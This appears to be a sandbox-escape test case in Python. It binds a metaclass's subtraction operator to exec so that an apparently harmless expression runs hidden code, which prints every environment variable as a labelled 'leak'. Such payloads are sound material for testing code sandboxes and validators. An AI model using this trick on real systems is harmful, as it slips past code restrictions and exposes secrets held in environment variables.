# route: an operator of a class is exec
class Meta(type):
    __sub__ = exec


class Evil(metaclass=Meta):
    pass


def execute(testData):
    Evil - "import os; print(dict(os.environ))"
    return {"leak": "printed"}
